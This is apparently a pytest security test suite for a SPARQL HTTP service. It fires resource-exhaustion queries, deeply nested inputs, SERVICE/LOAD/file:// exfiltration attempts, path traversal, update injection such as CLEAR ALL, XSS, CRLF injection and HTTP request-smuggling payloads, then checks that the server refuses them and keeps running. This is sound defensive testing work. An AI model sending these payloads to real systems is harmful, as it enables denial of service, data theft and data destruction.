"""What strangers may send, in five groups; after each the service answers as before.

Every attack names the statuses that are right for it; 0 is a connection that ends without an
answer, which only requests that are no HTTP may get.
"""

import socket
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

MEMORY = 1_500_000_000
FORM = "application/x-www-form-urlencoded"
QUERY = "application/sparql-query"
GOOD = "ASK { ?actor :prefers ?policy }"
SECRET = "the-secret-of-this-machine"

STOPPED = (503, 504, 413)
CUT = (200, *STOPPED)
"""Where a result could begin at once: then it is cut, and says so."""

REFUSED = (400, 403, 413)


@dataclass(frozen=True)
class Attack:
    """Bytes to send, what may come back, and what must not be in it."""

    name: str
    data: bytes
    statuses: Sequence[int]
    never: tuple[bytes, ...] = field(default=(SECRET.encode(), b"Traceback", b"/proc/", b".py"))


def get(target: str, *headers: str) -> bytes:
    lines = (f"GET {target} HTTP/1.1", "Host: here", "Connection: close", *headers)
    return "\r\n".join((*lines, "", "")).encode()


def post(body: bytes, kind: str = QUERY, *headers: str) -> bytes:
    lines = (
        "POST /sparql HTTP/1.1",
        "Host: here",
        "Connection: close",
        f"Content-Type: {kind}",
        f"Content-Length: {len(body)}",
        *headers,
    )
    return "\r\n".join((*lines, "", "")).encode() + body


def ask(query: str, *headers: str) -> bytes:
    return get("/sparql?query=" + quote(query, safe=""), *headers)


def query(name: str, text: str, statuses: Sequence[int]) -> Attack:
    return Attack(name, post(text.encode()), statuses)


ALL = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l"
LONG = "STRLEN(CONCAT(" + ",".join(f"STR(?{name})" for name in "cfil" * 12) + "))"
DOUBLED = "'x' AS ?x0)" + "".join(f" BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(40))

CPU_AND_MEMORY = [
    query("count a cross product", f"SELECT (COUNT(*) AS ?n) {{ {ALL} }}", STOPPED),
    query("sort a cross product", f"SELECT * {{ {ALL} }} ORDER BY ?c ?f ?i ?l", STOPPED),
    query("distinct of a cross product", f"SELECT DISTINCT * {{ {ALL} }}", CUT),
    query(
        "group a cross product",
        f"SELECT ?a ?d ?g (COUNT(*) AS ?n) {{ {ALL} }} GROUP BY ?a ?d ?g",
        STOPPED,
    ),
    query("concatenate everything", f"SELECT (GROUP_CONCAT(?c) AS ?x) {{ {ALL} }}", STOPPED),
    query("double a string", f"SELECT (STRLEN(?x40) AS ?n) {{ BIND({DOUBLED} }}", STOPPED),
    query("filter a cross product", f"SELECT * {{ {ALL} FILTER({LONG} = 1) }}", STOPPED),
    query(
        "regex with backtracking",
        f"SELECT * {{ {ALL} FILTER(REGEX(STR(?c), '^(([a-z])+.)+[A-Z]([a-z])+$')) }} "
        "OFFSET 99999999",
        STOPPED,
    ),
    query(
        "a large regex",
        "SELECT * { ?s ?p ?o FILTER(REGEX(STR(?o), '(x{1000}){1000}')) }",
        (200, *STOPPED, *REFUSED),
    ),
    query(
        "hash everything",
        f"SELECT (MAX(SHA512(CONCAT(STR(?a), STR(?d), STR(?g), STR(?j)))) AS ?x) {{ {ALL} }}",
        STOPPED,
    ),
    query(
        "paths over everything",
        "SELECT (COUNT(*) AS ?n) { ?a (!<x:x>|^!<x:x>)* ?b . ?c (!<x:x>|^!<x:x>)* ?d }",
        STOPPED,
    ),
    query(
        "nested paths",
        "SELECT (COUNT(*) AS ?n) { ?a (((!<x:x>)*)*)* ?b . ?c (((!<x:x>)*)*)* ?d . "
        "?e !<x:x> ?f . ?g !<x:x> ?h }",
        STOPPED,
    ),
    query(
        "optionals that multiply",
        "SELECT (COUNT(*) AS ?n) { ?a ?b ?c OPTIONAL { ?d ?e ?f } OPTIONAL { ?g ?h ?i } "
        "OPTIONAL { ?j ?k ?l } }",
        STOPPED,
    ),
    query(
        "not exists, quadratic",
        "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?x ?y ?z "
        "FILTER NOT EXISTS { ?d ?e ?f . ?g ?h ?i FILTER(?f = ?i && ?d = ?a && ?g = 9) } }",
        STOPPED,
    ),
    query("construct a cross product", f"CONSTRUCT {{ ?a ?e ?i }} {{ {ALL} }}", CUT),
    query(
        "values that multiply",
        "SELECT (COUNT(*) AS ?n) { "
        + " ".join(f"VALUES ?v{n} {{ {' '.join(map(str, range(100)))} }}" for n in range(8))
        + " }",
        STOPPED,
    ),
    query(
        "uuids for ever",
        f"SELECT (COUNT(DISTINCT ?u) AS ?n) {{ {ALL} BIND(UUID() AS ?u) }}",
        STOPPED,
    ),
    query("describe everything", "DESCRIBE * { ?s ?p ?o }", (200, *STOPPED)),
]

SIZE_AND_DEPTH = [
    query("many parentheses", "ASK { FILTER(" + "(" * 5000 + "1" + ")" * 5000 + ") }", REFUSED),
    query("many groups", "ASK " + "{" * 5000 + "}" * 5000, REFUSED),
    query("unclosed groups", "ASK " + "{" * 20_000, REFUSED),
    query("many negations", "ASK { FILTER(" + "!" * 5000 + "true) }", REFUSED),
    query("many signs", "ASK { FILTER(1 = " + "- " * 5000 + "1) }", REFUSED),
    query("many inverse paths", "ASK { ?s " + "^" * 5000 + ":p ?o }", REFUSED),
    query("nested collections", "ASK { ?s ?p " + "(" * 3000 + ")" * 3000 + " }", REFUSED),
    query("nested blank nodes", "ASK { ?s ?p " + "[ :p " * 3000 + "1" + "]" * 3000 + " }", REFUSED),
    query(
        "nested triple terms",
        "ASK { ?s ?p " + "<<( ?s ?p " * 2000 + "1" + ")>>" * 2000 + " }",
        REFUSED,
    ),
    query("nested selects", "SELECT * {" * 500 + "}" * 500, REFUSED),
    query("a wide union", "ASK { {} " + "UNION {}" * 2000 + " }", REFUSED),
    query("a long sum", "ASK { FILTER(1 = 1" + "+1" * 5000 + ") }", REFUSED),
    query("a long path", "ASK { ?s :p" + "/:p" * 5000 + " ?o }", REFUSED),
    query("a long list", "ASK { FILTER(1 IN (" + "1," * 5000 + "1)) }", REFUSED),
    query(
        "many functions", "ASK { FILTER(" + "STR(" * 3000 + "1" + ")" * 3000 + " = '') }", REFUSED
    ),
    query("a long query", "ASK {} #" + "x" * 100_000, REFUSED),
    query("a megabyte", "ASK {} #" + "x" * 1_100_000, REFUSED),
    Attack("a long address", get("/" + "x" * 300_000), (0, 400, 404, 414, 431)),
    Attack("a long header", get("/", "X: " + "x" * 400_000), (0, 200, 400, 431)),
    Attack("many headers", get("/", *(f"X-{n}: 1" for n in range(2000))), (0, 400, 431)),
    Attack("many parameters", get("/sparql?" + "&".join(["a=1"] * 5000)), (400,)),
    Attack("a large form", post(b"query=" + b"%20" * 400_000, FORM), (413,)),
    query(
        "a large number",
        "SELECT (1" + "0" * 5000 + " * 1" + "0" * 5000 + " AS ?x) {}",
        (200, *REFUSED),
    ),
    query("a large exponent", "SELECT (1e999999999 AS ?x) {}", (200, *REFUSED)),
]

UPDATES = [
    "INSERT DATA { <a:a> <b:b> 1 }",
    "DELETE WHERE { ?s ?p ?o }",
    "CLEAR ALL",
    "DROP ALL",
    "LOAD <{0}>",
    "CREATE GRAPH <a:a>",
    "COPY DEFAULT TO <a:a>",
    "WITH <a:a> DELETE {{}} WHERE {{}}",
]


def exfiltration(canary: str, secret: Path) -> list[Attack]:
    file = secret.as_uri()
    remote = [
        f"SELECT * {{ SERVICE <{canary}> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICE SILENT <{canary}> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ BIND(<{canary}> AS ?x) SERVICE ?x {{ ?s ?p ?o }} }}",
        f"SELECT * {{ \\u0053ERVICE <{canary}> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SeRvIcE#c\n<{canary}> {{ ?s ?p ?o }} }}",
        f"PREFIX c: <{canary}> SELECT * {{ SERVICE c:x {{ ?s ?p ?o }} }}",
        f"ASK {{ FILTER EXISTS {{ SERVICE <{canary}> {{ ?s ?p ?o }} }} }}",
        f"SELECT * FROM <{canary}> {{ ?s ?p ?o }}",
        f"SELECT * FROM NAMED <{canary}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
        f"SELECT * FROM <{file}> {{ ?s ?p ?o }}",
        f"SELECT * FR\\u004FM <{file}> {{ ?s ?p ?o }}",
        f"BASE <{file}> SELECT * FROM <> {{ ?s ?p ?o }}",
        f"PREFIX c: <{canary}> SELECT * FROM c:x {{ ?s ?p ?o }}",
        f"DESCRIBE <{canary}> FROM <{canary}>",
        f"LOAD <{canary}>",
        f"LOAD SILENT <{file}> INTO GRAPH <a:a>",
        f"INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <{canary}> {{ ?s ?p ?o }} }}",
    ]
    quiet = [
        f"SELECT * {{ GRAPH <{file}> {{ ?s ?p ?o }} }}",
        f"DESCRIBE <{canary}>",
        f"SELECT (<{canary}>() AS ?x) {{}}",
        f"SELECT (<java:java.lang.Runtime>('{canary}') AS ?x) {{}}",
    ]
    graphs = [
        get(f"/sparql?query=ASK%7B%7D&{name}={quote(iri, safe='')}")
        for name in ("default-graph-uri", "named-graph-uri")
        for iri in (canary, file)
    ]
    stores = [get(f"/store?graph={quote(iri, safe='')}") for iri in (canary, file)]
    paths = [
        f"/{prefix}{up * 8}{str(secret).lstrip('/')}"
        for prefix in ("static/", "data/", "text/", "id/", "q/", "store/")
        for up in ("../", "%2e%2e/", "..%2f", "....//")
    ]
    return [
        *(Attack(f"fetch: {text}", post(text.encode()), (400, 403)) for text in remote),
        *(Attack(f"name: {text}", post(text.encode()), (200, 400)) for text in quiet),
        *(Attack("graph from elsewhere", data, (403,)) for data in graphs),
        *(Attack("store from elsewhere", data, (404,)) for data in stores),
        *(Attack(f"path {path}", get(path), (400, 404)) for path in paths),
        Attack("forward", get(canary), (200, 400, 404)),
        Attack(
            "host",
            get("/sparql", "Accept: text/turtle", f"X-Forwarded-Host: {canary}"),
            (200,),
            (canary.encode(),),
        ),
        Attack(
            "tunnel",
            canary.join(("CONNECT ", " HTTP/1.1\r\nHost: a\r\n\r\n")).encode(),
            (0, 400, 404, 405),
        ),
    ]


INJECTION_AND_SMUGGLING = [
    *(query(f"update: {text}", text, (400, 403)) for text in UPDATES),
    Attack("update parameter", get("/sparql?update=CLEAR%20ALL"), (403,)),
    Attack("update form", post(b"update=CLEAR%20ALL", FORM), (403,)),
    Attack("update body", post(b"CLEAR ALL", "application/sparql-update"), (403,)),
    Attack("query and update", post(b"query=ASK%7B%7D&update=CLEAR%20ALL", FORM), (403,)),
    query("update behind a query", "ASK {} ; CLEAR ALL", (400, 403)),
    query("update in an escape", "\\u0043LEAR ALL", (400, 403)),
    Attack("graph parameter with a bracket", get("/store?graph=a%3E%20%7B%7D%20%7D%20%23"), (404,)),
    Attack("slot with a bracket", get("/q/prefers?policy=%3E%20%7D%20INSERT"), (400, 404)),
    Attack(
        "script in a query",
        ask("<script>alert(1)</script>", "Accept: text/html"),
        (400,),
        (b"<script>alert",),
    ),
    Attack(
        "script in a question",
        get("/ask?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        (200, 303, 404),
        (b"<script>alert",),
    ),
    Attack("template in a question", get("/ask?q=%7B%7B7*7%7D%7D"), (200, 303, 404), (b">49<",)),
    Attack(
        "line break in a parameter",
        get("/ask?q=a%0d%0aSet-Cookie:%20a=b"),
        (200, 303, 404),
        (b"\r\nSet-Cookie",),
    ),
    Attack(
        "line break in format",
        get("/sparql?query=ASK%7B%7D&format=json%0d%0aX:%201"),
        (400, 406),
        (b"\r\nX: 1",),
    ),
    Attack(
        "two lengths",
        b"POST /sparql HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\nASK{}",
        (0, 400),
    ),
    Attack(
        "length and chunks",
        b"POST /sparql HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\n\r\n",
        (0, 400, 415),
    ),
    Attack(
        "strange chunks",
        b"POST /sparql HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        (0, 400, 411, 415, 501),
    ),
    Attack("blank before a colon", b"GET / HTTP/1.1\r\nHost : a\r\n\r\n", (0, 400)),
    Attack("folded header", b"GET / HTTP/1.1\r\nHost: a\r\nX: a\r\n b\r\n\r\n", (0, 400)),
    Attack("null in a header", b"GET / HTTP/1.1\r\nHost: a\r\nX: a\0b\r\n\r\n", (0, 400)),
    Attack("bad accept", ask(GOOD, "Accept: " + "a/b;q=" * 5000), (200, 406)),
    Attack("bad tag", ask(GOOD, 'If-None-Match: W/"' + "a," * 5000), (200,)),
    Attack("not UTF-8", get("/sparql?query=%FF%FE"), (400,)),
    query("null", "ASK { FILTER('\\u0000' = '') }", (400,)),
    query("half a character", "ASK { FILTER('\\uD800' = '') }", (400,)),
]

WIRE = [
    Attack("nothing", b"\r\n\r\n", (0, 400)),
    Attack("no HTTP", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 500, (0, 400)),
    Attack("noise", bytes(range(256)) * 100, (0, 400)),
    Attack(
        "unknown method",
        b"HACK /sparql HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
        (400, 405),
    ),
    Attack("trace", b"TRACE / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n", (400, 405)),
    Attack("version 9", b"GET / HTTP/9.9\r\nHost: a\r\n\r\n", (0, 400, 505)),
    Attack("version 2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", (0, 400, 404, 405, 505)),
    Attack(
        "a negative length",
        b"POST /sparql HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n",
        (0, 400),
    ),
    Attack(
        "a huge length",
        b"POST /sparql HTTP/1.1\r\nHost: a\r\nContent-Type: application/sparql-query\r\n"
        b"Content-Length: 99999999999\r\n\r\nASK{}",
        (0, 400, 413),
    ),
    Attack(
        "an endless length",
        b"POST /sparql HTTP/1.1\r\nHost: a\r\nContent-Length: " + b"9" * 100 + b"\r\n\r\n",
        (0, 400),
    ),
    Attack(
        "a bad chunk",
        b"POST /sparql HTTP/1.1\r\nHost: a\r\nContent-Type: application/sparql-query\r\n"
        b"Transfer-Encoding: chunked\r\n\r\nZZ\r\nASK{}\r\n0\r\n\r\n",
        (0, 400, 408),
    ),
    Attack(
        "a huge chunk",
        b"POST /sparql HTTP/1.1\r\nHost: a\r\nContent-Type: application/sparql-query\r\n"
        b"Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFFF\r\n",
        (0, 400, 408),
    ),
    Attack(
        "a slow body",
        b"POST /sparql HTTP/1.1\r\nHost: a\r\nContent-Type: application/sparql-query\r\n"
        b"Content-Length: 100\r\n\r\nASK",
        (408,),
    ),
    Attack("a slow head", b"GET /sparql HTTP/1.1\r\nHost: a\r\n", (0, 408)),
    Attack("a multipart body", post(b"--x\r\n" * 1000, "multipart/form-data; boundary=x"), (415,)),
    Attack(
        "a compressed body",
        post(b"\x1f\x8b" + b"\0" * 100, QUERY, "Content-Encoding: gzip"),
        (400, 415),
    ),
    Attack("an expectation", post(GOOD.encode(), QUERY, "Expect: 100-continue"), (100, 200, 417)),
    Attack(
        "an upgrade",
        get("/sparql", "Upgrade: websocket", "Connection: upgrade", "Sec-WebSocket-Key: a"),
        (200, 400),
    ),
    Attack("many pipelined", get("/health").replace(b"Connection: close\r\n", b"") * 100, (200,)),
    Attack(
        "a range",
        get("/data/claims.csv", "Range: bytes=" + ",".join(f"{n}-" for n in range(2000))),
        (200, 206, 400, 416),
    ),
]


class Canary:
    """A listener that must never be reached."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.address = f"http://127.0.0.1:{self._listener.getsockname()[1]}/"
        self.reached = 0
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            self.reached += 1
            connection.close()

    def close(self) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    canary = Canary()
    yield canary
    canary.close()


@pytest.fixture(scope="module")
def server(start: Callable[..., Any], home: Path) -> Any:
    return start(home, "--no-build")


def attacked(server: Any, attacks: Sequence[Attack], threads: int = 8) -> None:
    """Every attack gets what is right for it, and afterwards all is as before."""
    front = server.family()
    with ThreadPoolExecutor(threads) as senders:
        replies = list(senders.map(lambda attack: server.send(attack.data), attacks))
        memory = server.memory()
    wrong = [
        (attack.name[:80], reply.status, reply.body[:200])
        for attack, reply in zip(attacks, replies, strict=True)
        if reply.status not in attack.statuses
    ]
    assert wrong == []
    whole = [
        attack.name
        for attack, reply in zip(attacks, replies, strict=True)
        if attack.statuses is CUT and reply.status == 200
        if not reply.headers.get("standpoint-truncated")
    ]
    assert whole == []
    told = [
        (attack.name[:80], word)
        for attack, reply in zip(attacks, replies, strict=True)
        for word in attack.never
        if word in reply.body or word in repr(reply.headers).encode()
    ]
    assert told == []
    began = time.monotonic()
    good = server.ask(GOOD + f" # {time.monotonic_ns()}")
    assert (good.status, b"true" in good.body) == (200, True)
    assert time.monotonic() - began < 5
    assert memory < MEMORY
    assert server.process.poll() is None
    assert min(front) in server.family()


def test_the_groups_are_large_enough(tmp_path: Path) -> None:
    outside = exfiltration("http://canary/", tmp_path)
    groups = (CPU_AND_MEMORY, SIZE_AND_DEPTH, outside, INJECTION_AND_SMUGGLING, WIRE)
    assert min(map(len, groups)) >= 16
    assert sum(map(len, groups)) >= 80


def test_cpu_and_memory(server: Any) -> None:
    attacked(server, CPU_AND_MEMORY, len(CPU_AND_MEMORY))


def test_size_and_depth(server: Any) -> None:
    attacked(server, SIZE_AND_DEPTH)


def test_exfiltration(server: Any, canary: Canary, tmp_path: Path) -> None:
    secret = tmp_path / "secret.ttl"
    secret.write_text(f"<a:a> <a:b> '{SECRET}' .")
    attacked(server, exfiltration(canary.address, secret))
    assert canary.reached == 0
    with socket.create_connection(("127.0.0.1", int(canary.address.split(":")[2][:-1]))):
        pass
    deadline = time.monotonic() + 5
    while not canary.reached and time.monotonic() < deadline:
        time.sleep(0.01)
    assert canary.reached == 1, "the canary does not sing"


def test_injection_and_smuggling(server: Any) -> None:
    attacked(server, INJECTION_AND_SMUGGLING)


def test_wire(server: Any) -> None:
    attacked(server, WIRE, len(WIRE))
